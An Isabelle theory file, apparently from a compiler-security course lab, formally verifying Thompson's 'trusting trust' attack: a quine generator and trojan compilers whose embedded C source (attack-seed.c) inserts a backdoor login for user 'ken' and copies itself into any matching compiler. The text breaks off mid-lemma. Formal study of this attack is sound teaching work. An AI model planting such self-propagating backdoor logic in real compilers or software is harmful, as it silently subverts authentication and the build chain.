(* ===== verification/Trust.thy ===== *)
theory Trust
  imports Prelude "HOL-Library.Sublist"
begin

text \<open>
  Lab 2, Thompson's self-reproducing attack on a compiler: the quine generator and its seed (\<open>step1\<close>), the compilers that
  insert text where they find a signature (\<open>step2\<close>), and the compiler whose inserted text is the attack itself
  (\<open>step3\<close>).  A program is its text, a list of bytes without zero; a compiler is the text it hands to gcc.
\<close>

subsection \<open>Text\<close>

definition bytes :: "string \<Rightarrow> u8 list" where
  "bytes s = map of_char s"

definition unlines8 :: "u8 list list \<Rightarrow> u8 list" where
  "unlines8 ls = concat (map (\<lambda>l. l @ [10]) ls)"

text \<open>\<open>printf\<close> of \<open>%d\<close>.\<close>

fun dec_nat :: "nat \<Rightarrow> u8 list" where
  "dec_nat n = (if n < 10 then [of_nat (48 + n)] else dec_nat (n div 10) @ [of_nat (48 + n mod 10)])"

declare dec_nat.simps [simp del]

definition dec_int :: "int \<Rightarrow> u8 list" where
  "dec_int x = (if x < 0 then 45 # dec_nat (nat (- x)) else dec_nat (nat x))"

text \<open>\<open>strstr\<close> of the C library: the rest of the text from the first occurrence on.\<close>

fun strstr :: "u8 list \<Rightarrow> u8 list \<Rightarrow> u8 list option" where
  "strstr s pat = (if prefix pat s then Some s else case s of [] \<Rightarrow> None | _ # t \<Rightarrow> strstr t pat)"

declare strstr.simps [simp del]

subsection \<open>\<open>step1\<close>: \<open>quine-gen.c\<close> and \<open>seed.c\<close>\<close>

definition array_head :: "u8 list" where
  "array_head = bytes ''char prog[] = {'' @ [10]"

definition array_tail :: "u8 list" where
  "array_tail = bytes ''0 };'' @ [10]"

definition array_entry :: "int \<Rightarrow> nat \<Rightarrow> u8 list" where
  "array_entry c i = [9] @ dec_int c @ [44, if (i + 1) mod 8 = 0 then 10 else 32]"

text \<open>The loop of the generator: \<open>getchar\<close> gives bytes from 0 to 255; the buffer has 5000 places.\<close>

fun gen_loop :: "u8 list \<Rightarrow> u8 list \<Rightarrow> nat \<Rightarrow> (u8 list \<times> u8 list) res" where
  "gen_loop [] prog i = (if i < 5000 then Inr ([], prog) else Inl OutOfBounds)"
| "gen_loop (c # input) prog i =
     (if i < 5000 then
        bnd (gen_loop input (prog @ [c]) (i + 1)) (\<lambda>(out, prog1). Inr (array_entry (uint c) i @ out, prog1))
      else Inl OutOfBounds)"

definition quine_gen :: "u8 list \<Rightarrow> u8 list res" where
  "quine_gen input =
     bnd (gen_loop input [] 0) (\<lambda>(entries, prog).
     Inr (array_head @ entries @ array_tail @ takeWhile (\<lambda>c. c \<noteq> 0) prog))"

text \<open>What \<open>seed.c\<close> prints, \<open>prog\<close> the contents of its array; a \<open>char\<close> is signed on the host.\<close>

fun seed_entries :: "u8 list \<Rightarrow> nat \<Rightarrow> u8 list" where
  "seed_entries [] i = []"
| "seed_entries (c # prog) i = (if c = 0 then [] else array_entry (sint c) i @ seed_entries prog (i + 1))"

definition seed_main :: "u8 list \<Rightarrow> u8 list" where
  "seed_main prog = array_head @ seed_entries prog 0 @ array_tail @ takeWhile (\<lambda>c. c \<noteq> 0) prog"

text \<open>The text of \<open>seed.c\<close> itself; 9, 39 and 92 are the tabulator, the quote and the backslash.\<close>

definition seed_c :: "u8 list" where
  "seed_c =
     unlines8
      [bytes ''// can put any payload here.'',
       bytes ''#include <stdio.h>'',
       [],
       bytes ''// the C code for thompson'' @ [39] @ bytes ''s replicating program, more-or-less.'',
       bytes ''int main() { '',
       [9] @ bytes ''int i;'',
       [],
       bytes '' '' @ [9] @ bytes ''// Q: why can'' @ [39] @ bytes ''t we just print prog twice?'',
       [9] @ bytes ''// A: printint program twice and you will get'',
       [9] @ bytes ''// two char prog[] = {...}. It cannot be compiled as'',
       [9] @ bytes ''// it is not a valid C code. The printf(\"%s\", prog)'',
       [9] @ bytes ''// translate the char array to C code.'',
       [9] @ bytes ''// No. I think the means'',
       [9] @ bytes ''// prinf(\"%s\", prog);'',
       [9] @ bytes ''// prinf(\"%s\", prog);'',
       [9] @ bytes ''// That will make your program invalid as it has 2 main()'',
       [9] @ bytes ''// quine.c is not compilable then.'',
       [],
       [9] @ bytes ''printf(\"char prog[] = {'' @ [92] @ bytes ''n\");'',
       [9] @ bytes ''for(i = 0; prog[i]; i++)'',
       [9, 9] @ bytes ''printf(\"'' @ [92] @ bytes ''t%d,%c\", prog[i], (i+1)%8==0 ? '' @ [39, 92] @ bytes ''n'' @ [39] @ bytes '' : '' @ [39] @ bytes '' '' @ [39] @ bytes '');'',
       [9] @ bytes ''printf(\"0 };'' @ [92] @ bytes ''n\");'',
       [9] @ bytes ''printf(\"%s\", prog);'',
       [9] @ bytes ''return 0;''] @ bytes ''}''"

subsection \<open>\<open>step2\<close>: \<open>compiler.c\<close> and \<open>trojan-compiler.c\<close>\<close>

definition inject_attack :: "u8 list \<Rightarrow> u8 list \<Rightarrow> u8 list \<Rightarrow> u8 list option" where
  "inject_attack program pattern attack =
     (case strstr program pattern of
        None \<Rightarrow> None
      | Some match_ptr \<Rightarrow>
          let start_second_part = drop (length pattern) match_ptr;
              len_first_part = length program - length match_ptr in
          Some (take len_first_part program @ pattern @ attack @ start_second_part))"

definition login_sig :: "u8 list" where
  "login_sig = bytes ''int login(char *user) {''"

definition login_attack :: "u8 list" where
  "login_attack = bytes ''if(strcmp(user, \"ken\") == 0) return 1;''"

definition compile_sig :: "u8 list" where
  "compile_sig = bytes ''static void compile(char *program, char *outname) {'' @ [10] @
     bytes ''    FILE *fp = fopen(\"./temp-out.c\", \"w\");'' @ [10] @ bytes ''    assert(fp);''"

text \<open>The text of \<open>compiler.c\<close>.\<close>

definition compiler_c :: "u8 list" where
  "compiler_c =
     unlines8
      [bytes ''// engler, cs240lx: trivial identity \"compiler\" used to illustrate'',
       bytes ''// thompsons hack: it simply echos its input out.'',
       bytes ''#include <assert.h>'',
       bytes ''#include <fcntl.h>'',
       bytes ''#include <stdio.h>'',
       bytes ''#include <stdlib.h>'',
       bytes ''#include <string.h>'',
       bytes ''#include <sys/types.h>'',
       bytes ''#include <unistd.h>'',
       [],
       [],
       bytes ''#define error(args...) do { fprintf(stderr, ##args); exit(1);  } while(0)'',
       [],
       bytes ''// a not very interesting compile: throw the input into a '',
       bytes ''// temporary file and then call gcc on the result.'',
       bytes ''static void compile(char *program, char *outname) {'',
       bytes ''    FILE *fp = fopen(\"./temp-out.c\", \"w\");'',
       bytes ''    assert(fp);'',
       bytes ''    fprintf(fp, \"%s\", program);'',
       bytes ''    fclose(fp);'',
       [],
       [],
       bytes ''    // for step 2 you will pattern match on '',
       bytes ''    //   \"static void compile(char *program, char *outname) {\"'',
       bytes ''    // and inject the attack'',
       [],
       bytes ''    // match on login....'',
       bytes ''    // and inject an attack for \"ken\"'',
       [],
       bytes ''    // gross, call gcc.'',
       bytes ''    char buf[1024];'',
       bytes ''    sprintf(buf, \"gcc ./temp-out.c -o %s\", outname);'',
       bytes ''    if(system(buf) != 0)'',
       bytes ''        error(\"system failed'' @ [92] @ bytes ''n\");'',
       bytes ''}'',
       [],
       [],
       [],
       bytes ''#   define N  8 * 1024 * 1024'',
       bytes ''static char buf[N+1];'',
       [],
       bytes ''int main(int argc, char *argv[]) {'',
       bytes ''    if(argc != 4)'',
       bytes ''        error(\"expected 4 arguments have %d'' @ [92] @ bytes ''n\", argc);'',
       bytes ''    if(strcmp(argv[2], \"-o\") != 0)'',
       bytes ''        error(\"expected -o as second argument, have <%s>'' @ [92] @ bytes ''n\", argv[2]);'',
       [],
       bytes ''    // read in the entire file.'',
       bytes ''    int fd;'',
       bytes ''    if((fd = open(argv[1], O_RDONLY)) < 0)'',
       bytes ''        error(\"file <%s> does not exist'' @ [92] @ bytes ''n\", argv[1]);'',
       [],
       bytes ''    int n;'',
       bytes ''    if((n = read(fd, buf, N)) < 1)'',
       bytes ''        error(\"invalid read of file <%s>'' @ [92] @ bytes ''n\", argv[1]);'',
       bytes ''    if(n == N)'',
       bytes ''        error(\"input file too large'' @ [92] @ bytes ''n\");'',
       [],
       bytes ''    // \"compile\" it.'',
       bytes ''    compile(buf, argv[3]);'',
       bytes ''    return 0;'',
       bytes ''}'']"

text \<open>The file: its text while open.  Writing to it or closing it after it was closed is undefined.\<close>

type_synonym outfile = "u8 list \<times> bool"

definition fputs_close :: "u8 list \<Rightarrow> outfile \<Rightarrow> outfile res" where
  "fputs_close t = (\<lambda>(text, is_open). if is_open then Inr (text @ t, False) else Inl (Panic ''use of a closed file''))"

text \<open>The text handed to gcc by \<open>compiler.c\<close> and by \<open>trojan-compiler.c\<close>.\<close>

definition compile1 :: "u8 list \<Rightarrow> u8 list res" where
  "compile1 program = bnd (fputs_close program ([], True)) (\<lambda>(text, _). Inr text)"

definition compile2_attack :: "u8 list" where
  "compile2_attack = bytes ''printf(\"%s: could have run your attack here!!'' @ [92, 110] @ bytes ''\", __FUNCTION__);''"

definition compile2 :: "u8 list \<Rightarrow> u8 list res" where
  "compile2 program =
     bnd (case inject_attack program login_sig login_attack of
            Some new_login \<Rightarrow> fputs_close new_login ([], True) | None \<Rightarrow> Inr ([], True)) (\<lambda>fp.
     bnd (case inject_attack program compile_sig compile2_attack of
            Some new_compile \<Rightarrow> fputs_close new_compile fp | None \<Rightarrow> Inr fp) (\<lambda>(text, _).
     Inr text))"

subsection \<open>\<open>step3\<close>: \<open>attack-seed.c\<close> and \<open>trojan-compiler2.c\<close>\<close>

text \<open>The attack, with \<open>prog\<close> the contents of the array generated from its own text: the pointer \<open>new_prog\<close> it leaves.
  \<open>compile_attack\<close> has 50000 places.\<close>

definition attack_seed :: "u8 list \<Rightarrow> u8 list \<Rightarrow> u8 list option res" where
  "attack_seed prog program =
     (let new_prog = inject_attack program login_sig login_attack in
      case strstr program compile_sig of
        None \<Rightarrow> Inr new_prog
      | Some match_ptr \<Rightarrow>
          let compile_attack = array_head @ seed_entries prog 0 @ array_tail @ takeWhile (\<lambda>c. c \<noteq> 0) prog in
          if 50000 \<le> length compile_attack then Inl OutOfBounds
          else
            let start_second_part = drop (length compile_sig) match_ptr;
                len_first_part = length program - length match_ptr in
            Inr (Some (take len_first_part program @ compile_sig @ compile_attack @ start_second_part)))"

definition compile3 :: "u8 list \<Rightarrow> u8 list \<Rightarrow> u8 list res" where
  "compile3 prog program =
     bnd (attack_seed prog program) (\<lambda>new_prog.
     case new_prog of
       None \<Rightarrow> Inl NullDeref
     | Some p \<Rightarrow> bnd (fputs_close p ([], True)) (\<lambda>(text, _). Inr text))"

text \<open>The text of \<open>attack-seed.c\<close>.\<close>

definition attack_seed_c :: "u8 list" where
  "attack_seed_c =
     unlines8
      [bytes ''// can put any payload here.'',
       bytes ''// attack code'',
       [],
       bytes ''/*****************************************************************'',
       bytes '' * Step 1:'',
       bytes '' */'',
       [],
       bytes ''// match on the start of the login() routine:'',
       bytes ''static char login_sig[] = \"int login(char *user) {\";'',
       bytes ''static char login_attack[] = \"if(strcmp(user, '' @ [92] @ bytes ''\"ken'' @ [92] @ bytes ''\") == 0) return 1;\";'',
       [],
       bytes ''char *match_ptr = strstr(program, login_sig);'',
       bytes ''char *new_prog = NULL;'',
       [],
       bytes ''if (match_ptr != NULL)'',
       bytes ''{'',
       bytes ''    char *start_second_part = match_ptr + strlen(login_sig);'',
       [],
       bytes ''    size_t len_first_part = match_ptr - program;'',
       bytes ''    size_t len_to_insert = strlen(login_attack);'',
       bytes ''    size_t len_second_part = strlen(start_second_part);'',
       bytes ''    size_t new_size = len_first_part + strlen(login_sig) + len_to_insert + len_second_part + 1;'',
       [],
       bytes ''    new_prog = malloc(sizeof(char) * new_size);'',
       bytes ''    strncpy(new_prog, program, len_first_part);'',
       bytes ''    new_prog[len_first_part] = '' @ [39, 92] @ bytes ''0'' @ [39] @ bytes ''; // for strcat'',
       bytes ''    strcat(new_prog, login_sig);'',
       bytes ''    strcat(new_prog, login_attack);'',
       bytes ''    strcat(new_prog, start_second_part);'',
       bytes ''}'',
       [],
       bytes ''/*****************************************************************'',
       bytes '' * Step 2:'',
       bytes '' */'',
       [],
       bytes ''// search for the start of the compile routine:'',
       bytes ''static char compile_sig[] ='',
       bytes ''    \"static void compile(char *program, char *outname) {'' @ [92] @ bytes ''n\"'',
       bytes ''    \"    FILE *fp = fopen('' @ [92] @ bytes ''\"./temp-out.c'' @ [92] @ bytes ''\", '' @ [92] @ bytes ''\"w'' @ [92] @ bytes ''\");'' @ [92] @ bytes ''n\"'',
       bytes ''    \"    assert(fp);\";'',
       [],
       bytes ''// and inject a placeholder \"attack\":'',
       bytes ''// inject this after the assert above after the call to fopen.'',
       bytes ''// not much of an attack.   this is just a quick placeholder.'',
       bytes ''// static char compile_attack[] = \"printf('' @ [92] @ bytes ''\"%s: could have run your attack here!!'' @ [92, 92] @ bytes ''n'' @ [92] @ bytes ''\", __FUNCTION__);\";'',
       [],
       bytes ''match_ptr = strstr(program, compile_sig);'',
       bytes ''static char compile_attack[50000];'',
       bytes ''// compile_attack[BUFF_SIZE - 1] = '' @ [39, 92] @ bytes ''0'' @ [39] @ bytes '';'',
       bytes ''// the attack code now is the self-replication code'',
       bytes ''if (match_ptr != NULL)'',
       bytes ''{'',
       bytes ''    /* ... I'' @ [39] @ bytes ''m not so sure here ...*/'',
       bytes ''    // Propagate the ASCII array'',
       bytes ''    int i;'',
       bytes ''    int offset = 0;'',
       bytes ''    offset += snprintf(compile_attack + offset, sizeof(compile_attack) - offset, \"char prog[] = {'' @ [92] @ bytes ''n\");'',
       bytes ''    for (i = 0; prog[i]; i++)'',
       bytes ''        offset += snprintf(compile_attack + offset, sizeof(compile_attack) - offset, \"'' @ [92] @ bytes ''t%d,%c\", prog[i], (i + 1) % 8 == 0 ? '' @ [39, 92] @ bytes ''n'' @ [39] @ bytes '' : '' @ [39] @ bytes '' '' @ [39] @ bytes '');'',
       bytes ''    offset += snprintf(compile_attack + offset, sizeof(compile_attack) - offset, \"0 };'' @ [92] @ bytes ''n\");'',
       [],
       bytes ''    // print actual program text'',
       bytes ''    offset += snprintf(compile_attack + offset, sizeof(compile_attack) - offset, \"%s\", prog);'',
       bytes ''    compile_attack[offset] = '' @ [39, 92] @ bytes ''0'' @ [39] @ bytes ''; // maybe it helps with the len'',
       [],
       bytes ''    char *start_second_part = match_ptr + strlen(compile_sig);'',
       bytes ''    size_t len_first_part = match_ptr - program;'',
       bytes ''    size_t len_to_insert = strlen(compile_attack);'',
       bytes ''    size_t len_second_part = strlen(start_second_part);'',
       bytes ''    size_t new_size = len_first_part + strlen(compile_sig) + len_to_insert + len_second_part + 1;'',
       [],
       bytes ''    new_prog = malloc(sizeof(char) * new_size);'',
       [],
       bytes ''    // Concatenate all the part'',
       bytes ''    strncpy(new_prog, program, len_first_part);'',
       bytes ''    new_prog[len_first_part] = '' @ [39, 92] @ bytes ''0'' @ [39] @ bytes ''; // for strcat'',
       bytes ''    strcat(new_prog, compile_sig);'',
       bytes ''    strcat(new_prog, compile_attack);'',
       bytes ''    strcat(new_prog, start_second_part);'',
       bytes ''}'',
       [],
       bytes ''program = new_prog;'']"

text \<open>\<open>main\<close> of the compilers: the file read into a zeroed buffer of 8 MB and taken as a C string.\<close>

definition compiler_main :: "(u8 list \<Rightarrow> u8 list res) \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> u8 list option \<Rightarrow> u8 list res" where
  "compiler_main compile argc dash_o input =
     (if argc \<noteq> 4 then Inl (Panic ''expected 4 arguments'')
      else if \<not> dash_o then Inl (Panic ''expected -o as second argument'')
      else case input of
        None \<Rightarrow> Inl (Panic ''file does not exist'')
      | Some data \<Rightarrow>
          let n = min (length data) (8 * 1024 * 1024) in
          if n < 1 then Inl (Panic ''invalid read of file'')
          else if n = 8 * 1024 * 1024 then Inl (Panic ''input file too large'')
          else compile (takeWhile (\<lambda>c. c \<noteq> 0) data))"


subsection \<open>Reading an array back\<close>

definition isdig :: "u8 \<Rightarrow> bool" where "isdig c \<longleftrightarrow> 48 \<le> c \<and> c \<le> 57"

definition digits_val :: "u8 list \<Rightarrow> nat" where
  "digits_val ds = foldl (\<lambda>n d. 10 * n + (unat d - 48)) 0 ds"

text \<open>The entries of an array initializer up to the final zero, with the text that follows.\<close>

function read_entries :: "u8 list \<Rightarrow> (u8 list \<times> u8 list) option" where
  "read_entries s =
     (if take 1 s = [9] then
        let ds = takeWhile isdig (drop 1 s); r = dropWhile isdig (drop 1 s) in
        if ds = [] \<or> length r < 2 \<or> hd r \<noteq> 44 then None
        else map_option (\<lambda>(xs, t). (of_nat (digits_val ds) # xs, t)) (read_entries (drop 2 r))
      else if prefix array_tail s then Some ([], drop (length array_tail) s) else None)"
  by pat_completeness auto

termination
proof (relation "measure length")
  fix s ds r :: "u8 list"
  assume r: "r = dropWhile isdig (drop 1 s)" and n: "\<not> (ds = [] \<or> length r < 2 \<or> hd r \<noteq> 44)"
  have "length r \<le> length s"
    using length_dropWhile_le [of isdig "drop 1 s"] by (simp add: r)
  with n show "(drop 2 r, s) \<in> measure length"
    by simp linarith
qed simp

declare read_entries.simps [simp del]

definition read_array :: "u8 list \<Rightarrow> (u8 list \<times> u8 list) option" where
  "read_array s = (if prefix array_head s then read_entries (drop (length array_head) s) else None)"

definition ascii :: "u8 list \<Rightarrow> bool" where
  "ascii s \<longleftrightarrow> list_all (\<lambda>c. 0 < c \<and> c < 128) s"

lemma u8_digit: "n < 10 \<Longrightarrow> unat (of_nat (48 + n) :: u8) = 48 + n"
  by (simp add: unat_of_nat take_bit_eq_mod del: of_nat_add)

lemma isdig_digit: "n < 10 \<Longrightarrow> isdig (of_nat (48 + n))"
  using u8_digit [of n] by (simp add: isdig_def word_le_nat_alt del: of_nat_add)

lemma dec_nat_digits: "list_all isdig (dec_nat n)" and dec_nat_ne: "dec_nat n \<noteq> []"
proof (induction n rule: dec_nat.induct)
  case (1 n)
  { case 1
    then show ?case
      using "1.IH"(1) isdig_digit [of n] isdig_digit [of "n mod 10"]
      by (subst dec_nat.simps) (simp del: of_nat_add) }
  { case 2
    then show ?case
      by (subst dec_nat.simps) simp }
qed

lemma digits_val_snoc: "digits_val (ds @ [d]) = 10 * digits_val ds + (unat d - 48)"
  by (simp add: digits_val_def)

lemma digits_val_dec: "digits_val (dec_nat n) = n"
proof (induction n rule: dec_nat.induct)
  case (1 n)
  show ?case
  proof (cases "n < 10")
    case True
    then show ?thesis
      using u8_digit [of n] by (subst dec_nat.simps) (simp add: digits_val_def del: of_nat_add)
  next
    case False
    then show ?thesis
      using 1 u8_digit [of "n mod 10"] by (subst dec_nat.simps) (simp add: digits_val_snoc del: of_nat_add)
  qed
qed

lemma dec_int_uint: "dec_int (uint (c :: u8)) = dec_nat (unat c)"
  by (simp add: dec_int_def)

lemma sint_ascii: "c < 128 \<Longrightarrow> sint (c :: u8) = uint c"
  using order_trans [OF _ uint_ge_0 [of c], of "- 128"]
  by (simp add: sint_uint word_less_def signed_take_bit_int_eq_self_iff)


lemma read_entry:
  assumes "c < 128"
  shows "read_entries (array_entry (uint c) i @ s) = map_option (\<lambda>(xs, t). (c # xs, t)) (read_entries s)"
proof -
  have dig: "takeWhile isdig (dec_nat n @ 44 # r) = dec_nat n" "dropWhile isdig (dec_nat n @ 44 # r) = 44 # r" for n r
    using dec_nat_digits [of n] by (simp_all add: list_all_iff takeWhile_append dropWhile_append isdig_def)
  show ?thesis
    by (subst read_entries.simps) (simp add: array_entry_def dec_int_uint dig dec_nat_ne digits_val_dec)
qed

lemma array_tail_neq: "take 1 (array_tail @ s) \<noteq> [9]"
  by (simp add: array_tail_def bytes_def)

lemma read_tail: "read_entries (array_tail @ s) = Some ([], s)"
  using array_tail_neq by (subst read_entries.simps) auto

lemma read_seed_entries:
  "ascii prog \<Longrightarrow> read_entries (seed_entries prog i @ array_tail @ s) = Some (prog, s)"
proof (induction prog arbitrary: i)
  case Nil
  then show ?case by (simp add: read_tail)
next
  case (Cons c prog)
  then show ?case
    by (auto simp: ascii_def sint_ascii read_entry)
qed

lemma takeWhile_ascii: "ascii prog \<Longrightarrow> takeWhile (\<lambda>c. c \<noteq> 0) prog = prog"
  by (auto simp: ascii_def list_all_iff takeWhile_eq_all_conv)

lemma read_seed_main: "ascii prog \<Longrightarrow> read_array (seed_main prog @ s) = Some (prog, prog @ s)"
  by (simp add: read_array_def seed_main_def read_seed_entries takeWhile_ascii)

lemma gen_loop_ascii:
  "ascii input \<Longrightarrow> i + length input < 5000 \<Longrightarrow> gen_loop input prog i = Inr (seed_entries input i, prog @ input)"
  by (induction input arbitrary: prog i) (auto simp: ascii_def sint_ascii)

lemma quine_gen_ascii:
  assumes "ascii seed" and "length seed < 5000"
  shows "quine_gen seed = Inr (seed_main seed)" and "read_array (seed_main seed) = Some (seed, seed)"
  using assms read_seed_main [OF assms(1), of "[]"] gen_loop_ascii [OF assms(1), of 0 "[]"]
  by (simp_all add: quine_gen_def seed_main_def takeWhile_ascii)

subsection \<open>The texts of the lab\<close>

lemma ascii_append: "ascii (s @ t) \<longleftrightarrow> ascii s \<and> ascii t"
  by (simp add: ascii_def)

lemma ascii_numbers: "ascii []" "ascii (c # s) \<longleftrightarrow> 0 < c \<and> c < 128 \<and> ascii s"
  by (simp_all add: ascii_def)

lemma ascii_bytes: "ascii (bytes s) \<longleftrightarrow> list_all (\<lambda>c. 0 < (of_char c :: u8) \<and> (of_char c :: u8) < 128) s"
  by (simp add: ascii_def bytes_def list_all_iff)

lemma ascii_unlines: "ascii (unlines8 ls) \<longleftrightarrow> list_all ascii ls"
  by (induction ls) (simp_all add: unlines8_def ascii_append ascii_numbers)

lemma length_unlines: "length (unlines8 ls) = sum_list (map (\<lambda>l. length l + 1) ls)"
  by (induction ls) (simp_all add: unlines8_def)

lemma length_bytes: "length (bytes s) = length s"
  by (simp add: bytes_def)

lemmas ascii_text = ascii_append ascii_numbers ascii_bytes ascii_unlines

lemma seed_c_text: "ascii seed_c" "length seed_c = 705"
  unfolding seed_c_def by (simp_all add: ascii_text length_unlines length_bytes)

lemma attack_seed_c_text: "ascii attack_seed_c" "length attack_seed_c = 3025"
  unfolding attack_seed_c_def by (simp_all add: ascii_text length_unlines length_bytes)

text \<open>C38: The quine of step 1.  \<open>quine-gen < seed.c > quine.c\<close>, as the Makefile runs it, gives a text that is an array initialized with
  the text of \<open>seed.c\<close>, followed by the text of \<open>seed.c\<close>; and what \<open>seed.c\<close> prints with this array is that very text.\<close>

theorem quine_prints_itself:
  "\<exists>quine_c. quine_gen seed_c = Inr quine_c \<and> read_array quine_c = Some (seed_c, seed_c) \<and> seed_main seed_c = quine_c"
  using quine_gen_ascii [OF seed_c_text(1)] seed_c_text(2) by simp

text \<open>Outside ASCII the two programs differ: the generator prints the code of the byte, the seed the signed character.  The
  buffer overflows for 5000 bytes.\<close>

lemma quine_gen_not_ascii:
  "gen_loop [200] [] 0 = Inr (array_entry 200 0, [200])" "seed_entries [200] 0 = array_entry (- 56) 0"
  by simp_all

lemma gen_loop_overflow: "5000 \<le> i + length input \<Longrightarrow> gen_loop input prog i = Inl OutOfBounds"
  by (induction input arbitrary: prog i) auto

subsection \<open>Insertions\<close>

lemma strstr_Some: "strstr s pat = Some t \<Longrightarrow> (\<exists>pre. s = pre @ t) \<and> prefix pat t"
proof (induction s pat rule: strstr.induct)
  case (1 s pat)
  show ?case
  proof (cases "prefix pat s")
    case True
    then show ?thesis
      using 1(2) by (subst (asm) strstr.simps) auto
  next
    case False
    then obtain a u where s: "s = a # u" and u: "strstr u pat = Some t"
      using 1(2) by (subst (asm) strstr.simps) (auto split: list.splits)
    then obtain pre where "u = pre @ t" "prefix pat t"
      using "1.IH" [OF False s u] by blast
    then show ?thesis
      by (auto simp: s intro: exI [of _ "a # pre"])
  qed
qed

lemma inject_attack_Some:
  assumes "strstr program pattern = Some t"
  shows "\<exists>pre post. program = pre @ pattern @ post \<and> t = pattern @ post \<and>
    inject_attack program pattern attack = Some (pre @ pattern @ attack @ post)"
proof -
  obtain pre post where "program = pre @ pattern @ post" "t = pattern @ post"
    using strstr_Some [OF assms] by (auto simp: prefix_def)
  then show ?thesis
    using assms by (auto simp: inject_attack_def)
qed


subsection \<open>The trojan reproduces itself\<close>

lemma attack_seed_sig:
  assumes "strstr program compile_sig = Some t" and "length (seed_main prog) < 50000"
  shows "\<exists>pre post. program = pre @ compile_sig @ post \<and> t = compile_sig @ post \<and>
    attack_seed prog program = Inr (Some (pre @ compile_sig @ seed_main prog @ post))"
proof -
  obtain pre post where p: "program = pre @ compile_sig @ post" "t = compile_sig @ post"
    using strstr_Some [OF assms(1)] by (auto simp: prefix_def)
  then show ?thesis
    using assms by (auto simp: attack_seed_def seed_main_def Let_def)
qed

text \<open>The attack fits its buffer.\<close>

lemma length_dec_nat: "n < 1000 \<Longrightarrow> length (dec_nat n) \<le> 3"
  by (subst dec_nat.simps, subst dec_nat.simps, subst dec_nat.simps) auto

lemma length_seed_entries: "ascii prog \<Longrightarrow> length (seed_entries prog i) \<le> 6 * length prog"
proof (induction prog arbitrary: i)
  case (Cons c prog)
  have "length (dec_int (sint c)) \<le> 3"
    using Cons.prems length_dec_nat [of "unat c"] by (simp add: ascii_def sint_ascii dec_int_uint word_less_nat_alt)
  then show ?case
    using Cons.IH [of "i + 1"] Cons.prems by (simp add: ascii_def array_entry_def)
qed simp

lemma attack_fits: "length (seed_main attack_seed_c) < 50000"
proof -
  have "length (seed_entries attack_seed_c 0) \<le> 18150"
    using length_seed_entries [OF attack_seed_c_text(1), of 0] by (simp add: attack_seed_c_text(2))
  then show ?thesis
    by (simp add: seed_main_def takeWhile_ascii attack_seed_c_text array_head_def array_tail_def length_bytes)
qed

lemma strstr_found: "strstr (pre @ pat @ post) pat \<noteq> None"
proof (induction pre)
  case (Cons a pre)
  then show ?case by (subst strstr.simps) auto
qed (subst strstr.simps, simp)

lemma line_later: "\<exists>pre post. unlines8 ls = pre @ pat @ post \<Longrightarrow> \<exists>pre post. unlines8 (l # ls) = pre @ pat @ post"
  unfolding unlines8_def by (metis append_assoc concat.simps(2) list.map(2))

lemma sig_first:
  "\<exists>pre post. unlines8 (bytes ''static void compile(char *program, char *outname) {'' #
     bytes ''    FILE *fp = fopen(\"./temp-out.c\", \"w\");'' # bytes ''    assert(fp);'' # ls) = pre @ compile_sig @ post"
  by (rule exI [of _ "[]"], rule exI [of _ "10 # unlines8 ls"]) (simp add: unlines8_def compile_sig_def)

text \<open>C25: The compiler of step 3 infects every compiler that opens its output as \<open>compiler.c\<close> does, and reproduces itself.
  Its own source is that of such a compiler with \<open>attack-quine.c\<close>, the generator's output for \<open>attack-seed.c\<close>, included
  behind the signature; this is an array that holds the text of \<open>attack-seed.c\<close>, followed by that text.  With this
  array as \<open>prog\<close> it hands gcc the clean source with exactly \<open>attack-quine.c\<close> inserted behind the signature and nothing else changed.\<close>

theorem trojan_reproduces:
  assumes "strstr program compile_sig \<noteq> None"
  shows "\<exists>pre post attack_quine_c. program = pre @ compile_sig @ post \<and>
    quine_gen attack_seed_c = Inr attack_quine_c \<and> read_array attack_quine_c = Some (attack_seed_c, attack_seed_c) \<and>
    compile3 attack_seed_c program = Inr (pre @ compile_sig @ attack_quine_c @ post)"
proof -
  obtain t where t: "strstr program compile_sig = Some t"
    using assms by auto
  obtain pre post where p: "program = pre @ compile_sig @ post"
    "attack_seed attack_seed_c program = Inr (Some (pre @ compile_sig @ seed_main attack_seed_c @ post))"
    using attack_seed_sig [OF t attack_fits] by blast
  moreover have "compile3 attack_seed_c program = Inr (pre @ compile_sig @ seed_main attack_seed_c @ post)"
    using p(2) by (simp add: compile3_def fputs_close_def)
  ultimately show ?thesis
    using quine_gen_ascii [OF attack_seed_c_text(1)] attack_seed_c_text(2) by auto
qed

text \<open>The clean compiler of step 2, as the Makefile checks it.\<close>

theorem trojan_reproduces_witness:
  "\<exists>pre post attack_quine_c. compiler_c = pre @ compile_sig @ post \<and> quine_gen attack_seed_c = Inr attack_quine_c \<and>
    compile3 attack_seed_c compiler_c = Inr (pre @ compile_sig @ attack_quine_c @ post)"
proof -
  have "\<exists>pre post. compiler_c = pre @ compile_sig @ post"
    unfolding compiler_c_def by (rule sig_first | rule line_later)+
  then have "strstr compiler_c compile_sig \<noteq> None"
    using strstr_found by metis
  then show ?thesis
    using trojan_reproduces [of compiler_c] by blast
qed

text \<open>A text with neither signature is lost: step 2 hands gcc an empty file, step 3 passes the null pointer to \<open>fprintf\<close>.\<close>

lemma compile_no_signature:
  assumes "strstr program login_sig = None" and "strstr program compile_sig = None"
  shows "compile2 program = Inr [] \<and> compile3 prog program = Inl NullDeref"
  using assms by (simp add: compile2_def compile3_def attack_seed_def inject_attack_def Let_def)

text \<open>A text with both signatures: step 2 writes to the file it has closed, step 3 forgets the login attack.\<close>

lemma compile_both_signatures:
  assumes "strstr program login_sig = Some t" and "strstr program compile_sig = Some u"
    and "length (seed_main prog) < 50000"
  shows "compile2 program = Inl (Panic ''use of a closed file'') \<and>
    (\<exists>pre post. program = pre @ compile_sig @ post \<and> compile3 prog program = Inr (pre @ compile_sig @ seed_main prog @ post))"
proof -
  obtain x y where "inject_attack program login_sig login_attack = Some x" "inject_attack program compile_sig compile2_attack = Some y"
    using inject_attack_Some [OF assms(1), of login_attack] inject_attack_Some [OF assms(2), of compile2_attack] by blast
  then have "compile2 program = Inl (Panic ''use of a closed file'')"
    by (simp add: compile2_def fputs_close_def)
  moreover obtain pre post where "program = pre @ compile_sig @ post"
    "attack_seed prog program = Inr (Some (pre @ compile_sig @ seed_main prog @ post))"
    using attack_seed_sig [OF assms(2,3)] by blast
  ultimately show ?thesis
    by (intro conjI exI [of _ pre] exI [of _ post]) (simp_all add: compile3_def fputs_close_def)
qed

lemma compile_login:
  assumes "strstr program login_sig = Some t" and "strstr program compile_sig = None"
